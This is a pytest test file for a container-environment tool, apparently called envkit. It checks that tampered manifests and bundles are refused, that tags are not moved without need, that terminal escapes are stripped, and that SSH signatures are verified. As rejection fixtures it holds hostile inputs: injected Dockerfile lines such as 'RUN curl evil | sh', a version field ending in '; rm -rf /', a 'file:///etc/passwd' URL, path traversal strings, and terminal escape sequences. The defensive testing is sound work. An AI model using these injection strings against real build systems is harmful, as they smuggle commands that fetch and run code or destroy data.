"""Manifests and bundles are untrusted input: each test is named after what it refuses.

A manifest edited by hand and resealed (its digest recomputed) must not reach a Dockerfile,
a path, a tag or the engine with anything its field's grammar does not allow; restore moves only
the tag the user names or the spec's; signatures say who wrote a file.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from envkit.cli.app import main
from envkit.errors import IntegrityError, UsageError
from envkit.record import bundle as bundle_module
from envkit.record.bundle import (
    BASE_NAME,
    INDEX_NAME,
    MANIFEST_NAME,
    BundleIndex,
    OpenBundle,
    load_base,
    open_bundle,
    parse_index,
    read_trusted_manifest,
    write_bundle,
)
from envkit.record.diff import ImageDiff, render
from envkit.record.manifest import content_digest, manifest_text, read_manifest
from envkit.record.signing import MANIFEST_NAMESPACE, Trust, sign, signature_path
from envkit.record.snapshot import plan_from_manifest, restore_tag
from envkit.untrusted import clean
from tests.fakes import FakeClient, FakeImage
from tests.unit.test_record_snapshot import _manifest

needs_ssh_keygen = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs ssh-keygen (openssh-client)")


def _resealed(tmp_path: Path, edit: Any, name: str = "m.json") -> Path:
    """The test manifest with ``edit(data)`` applied and its digest recomputed, as an attacker would."""
    data = json.loads(manifest_text(_manifest()))
    edit(data)
    data["digest"] = content_digest(data)
    path = tmp_path / name
    path.write_text(json.dumps(data))
    return path


def _refused(path: Path, match: str | None = None) -> IntegrityError:
    with pytest.raises(IntegrityError, match=match) as info:
        read_manifest(path)
    assert info.value.exit_code == 5
    return info.value


# ---------------------------------------------------------------------------------------------
# Fields that reach the Dockerfile


def test_manifest_source_line_cannot_add_dockerfile_lines(tmp_path: Path) -> None:
    path = _resealed(tmp_path, lambda d: d.update(source="images/x/1.yaml\nRUN curl evil | sh"))
    _refused(path, "source")


def test_drift_container_name_cannot_add_dockerfile_lines(tmp_path: Path) -> None:
    drift = {
        "container_id": "e" * 64, "container_name": "dev\nFROM evil\nRUN id", "wheels": [], "removed": {},
        "python_packages": {"six": "1.17.0"}, "apt_changes": [],
        "docker_diff": {"added": 0, "changed": 0, "deleted": 0},
    }
    _refused(_resealed(tmp_path, lambda d: d.update(drift=drift)), "container_name")


def test_drift_wheel_records_are_refused_unless_each_field_fits_its_grammar(tmp_path: Path) -> None:
    good = {"name": "six", "version": "1.17.0", "filename": "six-1.17.0-py2.py3-none-any.whl",
            "url": "https://files.example/six-1.17.0-py2.py3-none-any.whl", "sha256": "sha256:" + "a" * 64}
    bad_fields = [
        {"url": "http://files.example/six-1.17.0-py2.py3-none-any.whl"},
        {"url": "file:///etc/passwd"},
        {"filename": "../../six-1.17.0-py2.py3-none-any.whl"},
        {"filename": "other-1.0-py3-none-any.whl"},
        {"name": "Six_"},
        {"version": "1.17.0; rm -rf /"},
        {"sha256": "sha256:abc"},
    ]
    for number, change in enumerate(bad_fields):
        drift = {
            "container_id": "e" * 64, "container_name": "dev", "wheels": [{**good, **change}], "removed": {},
            "python_packages": {"six": "1.17.0"}, "apt_changes": [],
            "docker_diff": {"added": 0, "changed": 0, "deleted": 0},
        }
        _refused(_resealed(tmp_path, lambda d, drift=drift: d.update(drift=drift), f"m{number}.json"))


def test_lock_apt_pin_in_a_manifest_cannot_reach_the_run_line(tmp_path: Path) -> None:
    def edit(data: dict[str, Any]) -> None:
        data["lock"]["apt"] = {"system": {"curl": "7.88.1-10 \\\nRUN curl evil | sh"}}

    _refused(_resealed(tmp_path, edit), "lock")


def test_image_tags_layers_and_ids_are_refused_unless_they_fit_their_grammar(tmp_path: Path) -> None:
    for number, image in enumerate([
        {"id": "sha256:" + "c" * 64, "layers": [], "tags": ["victim:latest\n"], "size": 1},
        {"id": "sha256:" + "c" * 64, "layers": [], "tags": ["--force"], "size": 1},
        {"id": "c" * 64, "layers": [], "tags": [], "size": 1},
        {"id": "sha256:" + "c" * 64, "layers": ["sha256:../x"], "tags": [], "size": 1},
        {"id": "sha256:" + "c" * 64, "layers": [], "tags": [], "size": -1},
    ]):
        _refused(_resealed(tmp_path, lambda d, image=image: d.update(image=image), f"m{number}.json"), "image")


def test_host_and_verify_report_sections_must_be_inert_data(tmp_path: Path) -> None:
    _refused(_resealed(tmp_path, lambda d: d.update(host={"driver": "\x1b]0;owned\x07"}), "a.json"), "host")
    deep: dict[str, Any] = {}
    for _ in range(40):
        deep = {"x": deep}
    _refused(_resealed(tmp_path, lambda d: d.update(verify_report=deep), "b.json"), "verify_report")
    _refused(_resealed(tmp_path, lambda d: d.update(verify_report={"x": "y" * (2 << 20)}), "c.json"),
             "verify_report")


def test_labels_env_and_package_records_refuse_control_characters(tmp_path: Path) -> None:
    edits = [
        lambda d: d["labels"].update({"x": "a\x1b[2Jb"}),
        lambda d: d.update(env=["PATH=/bin\x00"]),
        lambda d: d["apt_packages"].update({"bad name": "1.0"}),
        lambda d: d["python_packages"].update({"Not_Normal": {"version": "1.0"}}),
        lambda d: d.update(lock_mismatches=["\x1b[31mfake"]),
    ]
    for number, edit in enumerate(edits):
        _refused(_resealed(tmp_path, edit, f"m{number}.json"))


# ---------------------------------------------------------------------------------------------
# Paths and tags


def test_spec_tag_in_a_manifest_is_not_a_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _refused(_resealed(tmp_path, lambda d: d["spec"].update(tag="../../../../tmp/owned")), "spec")
    # A valid manifest plans in memory: planning writes nothing, wherever the process stands.
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    plan_from_manifest(read_manifest(_resealed(tmp_path, lambda d: None, "ok.json")), ca_bundle=None)
    assert list(work.iterdir()) == []


def test_image_tags_in_a_manifest_do_not_choose_the_local_tag() -> None:
    manifest = _manifest().model_copy(update={
        "image": _manifest().image.model_copy(update={"tags": ["python:3.11"]}),
    })
    client = FakeClient({"python:3.11": FakeImage("sha256:" + "9" * 64)})
    assert restore_tag(client, manifest, None) == manifest.spec.image_tag
    assert restore_tag(client, manifest, "mine/restored:1") == "mine/restored:1"


def test_restore_refuses_a_tag_naming_another_image_unless_forced() -> None:
    manifest = _manifest()
    other = FakeImage("sha256:" + "9" * 64)
    client = FakeClient({"mine:1": other, manifest.spec.image_tag: other})
    with pytest.raises(UsageError, match="already names another image") as info:
        restore_tag(client, manifest, "mine:1")
    assert info.value.exit_code == 2
    with pytest.raises(UsageError, match="already names another image") as info:
        restore_tag(client, manifest, None)
    assert "--force" in (info.value.hint or "")
    assert restore_tag(client, manifest, "mine:1", force=True) == "mine:1"
    same = FakeClient({"mine:1": FakeImage(manifest.image.id)})
    assert restore_tag(same, manifest, "mine:1") == "mine:1"


def _docker_archive(repo_tags: list[str]) -> tuple[bytes, str]:
    from envkit.engine.dockerarchive import archive_stream

    config = json.dumps({"rootfs": {"type": "layers", "diff_ids": []}}, sort_keys=True).encode()
    chunks = list(archive_stream(config, [], epoch=0, repo_tags=repo_tags))
    data = b"".join(chunks)
    # `docker save` also writes the legacy `repositories` file naming the same tags.
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        members = [(m, tar.extractfile(m).read() if m.isfile() else None) for m in tar.getmembers()]  # type: ignore[union-attr]
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for info, content in members:
            tar.addfile(info, io.BytesIO(content) if content is not None else None)
        extra = json.dumps({"python": {"3.11": "x"}}).encode()
        info = tarfile.TarInfo("repositories")
        info.size = len(extra)
        tar.addfile(info, io.BytesIO(extra))
    return out.getvalue(), "sha256:" + hashlib.sha256(config).hexdigest()


def test_bundle_base_archive_does_not_move_an_existing_tag(tmp_path: Path) -> None:
    archive, image_id = _docker_archive(["python:3.11", "envkit/debian:bookworm-test"])
    path = tmp_path / "b.bundle"
    with tarfile.open(path, "w") as tar:
        info = tarfile.TarInfo(BASE_NAME)
        info.size = len(archive)
        tar.addfile(info, io.BytesIO(archive))
    index = BundleIndex(1, "sha256:" + "3" * 64, "sha256:" + "4" * 64, "envkit/debian:bookworm-test",
                        image_id, {}, {})
    client = FakeClient({"python:3.11": FakeImage("sha256:" + "8" * 64)})
    list(load_base(client, OpenBundle(path, index, "{}")))
    with tarfile.open(fileobj=io.BytesIO(client.api.loaded)) as loaded:
        names = loaded.getnames()
        entry = json.loads(loaded.extractfile("manifest.json").read())[0]  # type: ignore[union-attr]
    assert "repositories" not in names and entry["RepoTags"] is None
    assert client.api.tagged == [(image_id, "envkit/debian", "bookworm-test")]
    assert client.images.get("python:3.11").id == "sha256:" + "8" * 64


def test_bundle_base_is_not_loaded_over_a_tag_naming_another_image(tmp_path: Path) -> None:
    index = BundleIndex(1, "sha256:" + "3" * 64, "sha256:" + "4" * 64, "b:1", "sha256:" + "5" * 64, {}, {})
    client = FakeClient({"b:1": FakeImage("sha256:" + "8" * 64)})
    with pytest.raises(IntegrityError, match="remove the local|bundle's base"):
        list(load_base(client, OpenBundle(tmp_path / "none", index, "{}")))
    assert client.api.loaded == b"" and client.api.tagged == []


# ---------------------------------------------------------------------------------------------
# Files that are not what they claim: exit 2 or 5, never 1


def test_non_utf8_manifest_is_refused_with_exit_5(tmp_path: Path) -> None:
    path = tmp_path / "m.json"
    path.write_bytes(manifest_text(_manifest()).encode().replace(b'"0.1.0"', b'"0.1.\xff"'))
    _refused(path, "UTF-8")
    assert main(["diff", str(path), str(path)]) == 5
    assert main(["sbom", str(path), "--format", "spdx"]) == 5


def test_deeply_nested_manifest_is_refused_with_exit_5(tmp_path: Path) -> None:
    path = tmp_path / "m.json"
    path.write_text('{"schema_version": 2, "host": ' + "[" * 100000 + "]" * 100000 + "}")
    _refused(path, "nested")
    assert main(["diff", str(path), str(path)]) == 5


def test_manifest_with_duplicate_keys_is_refused(tmp_path: Path) -> None:
    text = manifest_text(_manifest())
    path = tmp_path / "m.json"
    path.write_text(text.replace('{\n  "apt_packages"', '{\n  "source": "x",\n  "apt_packages"', 1))
    _refused(path, "duplicate")


def _bundle_with_index(tmp_path: Path, index: bytes, name: str = "bad.bundle") -> Path:
    path = tmp_path / name
    with tarfile.open(path, "w") as tar:
        for member, data in ((INDEX_NAME, index), (MANIFEST_NAME, b"{}")):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


GOOD_INDEX: dict[str, Any] = {
    "schema_version": 1, "manifest_digest": "sha256:" + "3" * 64, "image_id": "sha256:" + "4" * 64,
    "base_ref": "envkit/debian:bookworm", "base_image_id": "sha256:" + "5" * 64,
    "files": {BASE_NAME: {"sha256": "6" * 64, "size": 1}}, "wheels": {},
}


def test_bad_bundle_index_is_refused_not_an_internal_error(tmp_path: Path) -> None:
    bad = [
        b"", b"\xff\xfe", b"[]", b"{", b"[" * 5000, json.dumps({"schema_version": "1"}).encode(),
        json.dumps({k: v for k, v in GOOD_INDEX.items() if k != "files"}).encode(),
        json.dumps({**GOOD_INDEX, "files": {"../../etc/passwd": {"sha256": "6" * 64, "size": 1}}}).encode(),
        json.dumps({**GOOD_INDEX, "files": {"/abs": {"sha256": "6" * 64, "size": 1}}}).encode(),
        json.dumps({**GOOD_INDEX, "files": {BASE_NAME: {"sha256": "x", "size": 1}}}).encode(),
        json.dumps({**GOOD_INDEX, "files": {BASE_NAME: {"sha256": "6" * 64, "size": -1}}}).encode(),
        json.dumps({**GOOD_INDEX, "base_ref": "victim:latest\nx"}).encode(),
        json.dumps({**GOOD_INDEX, "wheels": {"../x.whl": "6" * 64}}).encode(),
        json.dumps({**GOOD_INDEX, "extra": 1}).encode(),
        b'{"schema_version": 1, "schema_version": 1}',
    ]
    for number, raw in enumerate(bad):
        with pytest.raises(IntegrityError) as info:
            open_bundle(_bundle_with_index(tmp_path, raw, f"b{number}.bundle"))
        assert info.value.exit_code == 5, raw[:60]
        assert main(["restore", str(tmp_path / f"b{number}.bundle")]) in (2, 5)
    assert parse_index(json.dumps(GOOD_INDEX).encode(), "ok").base_ref == "envkit/debian:bookworm"
    with pytest.raises(UsageError, match="bundle schema"):
        parse_index(json.dumps({**GOOD_INDEX, "schema_version": 99}).encode(), "new")


def test_bad_verify_report_is_a_usage_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("envkit.engine.client.get_client", lambda *a, **k: pytest.fail("engine asked"))
    for number, raw in enumerate([b"not json", b"\xff", b"[1, 2]", b'{"a": "\x1b[2J"}'.replace(b"\x1b", b"\\u001b"),
                                  b"[" * 10000]):
        report = tmp_path / f"r{number}.json"
        report.write_bytes(raw)
        assert main(["snapshot", "x:1", "-o", str(tmp_path / "m.json"), "--verify-report", str(report)]) == 2
    assert not (tmp_path / "m.json").exists()


def test_unwritable_bundle_output_is_a_usage_error(tmp_path: Path) -> None:
    manifest = tmp_path / "m.json"
    manifest.write_text(manifest_text(_manifest()))
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(UsageError, match="cannot write") as info:
        next(bundle_module.bundle_events(None, manifest, blocker / "sub" / "out.bundle"))  # type: ignore[arg-type]
    assert info.value.exit_code == 2
    os.mkfifo(tmp_path / "fifo")
    with pytest.raises(UsageError, match="not a regular file"):
        next(bundle_module.bundle_events(None, manifest, tmp_path / "fifo"))  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------
# What reaches the terminal


def test_untrusted_strings_lose_escape_sequences_before_printing() -> None:
    assert clean("ok\x1b[2J\x1b]0;title\x07 done\r\x00") == "ok done"
    assert clean("a\u202eb\nc") == "abc"
    diff = ImageDiff(a="a\x1b[31m[bold]x", b="b", a_id="sha256:1", b_id="sha256:2", identical=False)
    diff.notes.append("note \x1b]8;;http://evil\x07link")
    console = Console(record=True, force_terminal=False, width=200)
    render(diff, console)
    text = console.export_text()
    assert "\x1b" not in text and "[bold]x" in text and "http://evil" not in text


# ---------------------------------------------------------------------------------------------
# Signatures


def _key(tmp_path: Path, name: str) -> Path:
    key = tmp_path / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return key


def _allowed(tmp_path: Path, **keys: Path) -> Path:
    lines = []
    for identity, key in keys.items():
        kind, blob = Path(f"{key}.pub").read_text().split()[:2]
        lines.append(f"{identity} {kind} {blob}\n")
    path = tmp_path / "allowed_signers"
    path.write_text("".join(lines))
    return path


@needs_ssh_keygen
def test_restore_with_trust_refuses_unsigned_or_wrongly_signed_manifests(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from envkit.errors import EngineUnreachable

    def no_engine(*_: object, **__: object) -> None:
        raise EngineUnreachable("no engine in this test")

    monkeypatch.setattr("envkit.engine.client.get_client", no_engine)
    alice, mallory = _key(tmp_path, "alice"), _key(tmp_path, "mallory")
    allowed = _allowed(tmp_path, **{"alice@example.org": alice})
    path = tmp_path / "m.json"
    data = manifest_text(_manifest()).encode()
    path.write_bytes(data)
    trust = ["--trust", str(allowed), "--signer", "alice@example.org"]

    # Unsigned: exit 5, naming the signer it expected.
    assert main(["restore", str(path), *trust]) == 5
    with pytest.raises(IntegrityError, match="alice@example.org"):
        read_trusted_manifest(path, Trust(allowed, "alice@example.org"))

    # Signed by a key not in the allowed signers: exit 5.
    signature_path(path).write_bytes(sign(data, mallory, MANIFEST_NAMESPACE))
    assert main(["restore", str(path), *trust]) == 5
    assert main(["restore", str(path), "--trust", str(allowed)]) == 5

    # Signed by alice: trusted (the run goes on to the engine, which this test does not have).
    signature_path(path).write_bytes(sign(data, alice, MANIFEST_NAMESPACE))
    assert read_trusted_manifest(path, Trust(allowed))[1].digest == json.loads(data)["digest"]
    assert main(["restore", str(path), *trust]) == 3
    assert main(["restore", str(path), "--trust", str(allowed)]) == 3

    # One byte changed and the digest recomputed: the manifest's own check passes, the signature not.
    edited = json.loads(data)
    edited["envkit_version"] = "0.1.1"
    edited["digest"] = content_digest(edited)
    path.write_text(json.dumps(edited))
    read_manifest(path)
    assert main(["restore", str(path), *trust]) == 5

    # A manifest signature does not pass for a bundle's (namespaces differ).
    from envkit.record.signing import BUNDLE_NAMESPACE, verify

    with pytest.raises(IntegrityError):
        verify(data, sign(data, alice, MANIFEST_NAMESPACE), Trust(allowed), BUNDLE_NAMESPACE, "x")


@needs_ssh_keygen
def test_snapshot_sign_writes_a_signature_beside_the_manifest(tmp_path: Path) -> None:
    from envkit.cli.record import _write_manifest

    alice = _key(tmp_path, "alice")
    allowed = _allowed(tmp_path, **{"alice@example.org": alice})
    out = tmp_path / "m.json"
    assert _write_manifest(out, _manifest(), alice) == tmp_path / "m.json.sig"
    raw, manifest = read_trusted_manifest(out, Trust(allowed, "alice@example.org"))
    assert manifest.image.id == _manifest().image.id
    assert main(["snapshot", "x:1", "-o", str(out), "--sign", str(tmp_path / "no-such-key")]) == 2


@needs_ssh_keygen
def test_bundle_with_trust_refuses_unsigned_or_wrongly_signed_bundles(tmp_path: Path) -> None:
    alice, mallory = _key(tmp_path, "alice"), _key(tmp_path, "mallory")
    allowed = _allowed(tmp_path, **{"alice@example.org": alice})
    root = tmp_path / "members"
    (root / "base").mkdir(parents=True)
    (root / "base" / "image.tar").write_bytes(b"base")
    index = BundleIndex(**{**GOOD_INDEX, "files": {BASE_NAME: {"sha256": hashlib.sha256(b"base").hexdigest(),
                                                               "size": 4}}})
    trust = Trust(allowed, "alice@example.org")
    for key, name in ((None, "unsigned"), (mallory, "mallory")):
        path = tmp_path / f"{name}.bundle"
        write_bundle(path, "{}", index, root, 0, sign_key=key)
        with pytest.raises(IntegrityError, match="alice@example.org") as info:
            open_bundle(path, trust=trust)
        assert info.value.exit_code == 5
        assert main(["restore", str(path), "--trust", str(allowed), "--signer", "alice@example.org"]) == 5
    signed = tmp_path / "signed.bundle"
    write_bundle(signed, "{}", index, root, 0, sign_key=alice)
    assert open_bundle(signed, trust=trust).signer == "alice@example.org"
    assert open_bundle(signed, trust=Trust(allowed)).signer == "alice@example.org"
    # The index edited after signing (here: a different base ID) no longer verifies.
    data = signed.read_bytes().replace(b"5" * 64, b"7" * 64)
    edited = tmp_path / "edited.bundle"
    edited.write_bytes(data)
    with pytest.raises(IntegrityError, match="not signed by"):
        open_bundle(edited, trust=trust)


@needs_ssh_keygen
def test_bundle_with_trust_refuses_an_unsigned_manifest_before_the_engine(tmp_path: Path) -> None:
    alice = _key(tmp_path, "alice")
    allowed = _allowed(tmp_path, **{"alice@example.org": alice})
    manifest = tmp_path / "m.json"
    manifest.write_text(manifest_text(_manifest()))
    with pytest.raises(IntegrityError, match="alice@example.org"):
        next(bundle_module.bundle_events(None, manifest, tmp_path / "out.bundle",  # type: ignore[arg-type]
                                         trust=Trust(allowed, "alice@example.org")))
    assert main(["bundle", str(manifest), "-o", str(tmp_path / "out.bundle"), "--trust", str(allowed),
                 "--signer", "bob@example.org"]) in (3, 5)
    assert not (tmp_path / "out.bundle").exists()


def _restore_with(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, client: FakeClient, built_id: str,
                  *args: str) -> tuple[int, list[str]]:
    """``envkit restore`` of the test manifest on ``client``, the build faked to give ``built_id``."""
    from envkit.events import done
    from envkit.image.build import BuildResult

    landed: list[str] = []

    def fake_restore(client: FakeClient, manifest: Any, *, tag: str, **_: Any) -> Any:
        landed.append(tag)
        client.api.tag(built_id, *tag.rsplit(":", 1)) if client.images.find(built_id) else None
        yield done("built", BuildResult(built_id, tag, 1, {}, "", "", ""))

    monkeypatch.setattr("envkit.engine.client.get_client", lambda *a, **k: client)
    monkeypatch.setattr("envkit.record.snapshot.restore_events", fake_restore)
    monkeypatch.setattr("envkit.record.diff.diff_images", lambda *a, **k: ImageDiff("a", "b", None, None, False))
    path = tmp_path / "m.json"
    path.write_text(manifest_text(_manifest()))
    return main(["restore", str(path), *args]), landed


def test_restore_that_comes_out_different_does_not_move_a_tag_naming_the_manifests_image(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = _manifest()
    good, other = FakeImage(manifest.image.id), FakeImage("sha256:" + "9" * 64)
    client = FakeClient({"mine:1": good, other.id: other})
    code, landed = _restore_with(monkeypatch, tmp_path, client, other.id, "--tag", "mine:1")
    assert code == 9
    assert landed[0].startswith("mine:1-restore-") and client.images.get("mine:1") is good
    # The same restore coming out identical moves the tag (a no-op) and drops the staging tag.
    client = FakeClient({"mine:1": good})
    code, landed = _restore_with(monkeypatch, tmp_path, client, good.id, "--tag", "mine:1")
    assert code == 0 and client.images.get("mine:1") is good and landed[0] != "mine:1"
    assert client.api.untagged == landed
    # A free tag is built on directly; a tag naming another image is exit 2 unless --force.
    client = FakeClient({other.id: other, "taken:1": other})
    assert _restore_with(monkeypatch, tmp_path, client, good.id, "--tag", "taken:1")[0] == 2
    assert _restore_with(monkeypatch, tmp_path, FakeClient(), good.id, "--tag", "free:1")[1] == ["free:1"]
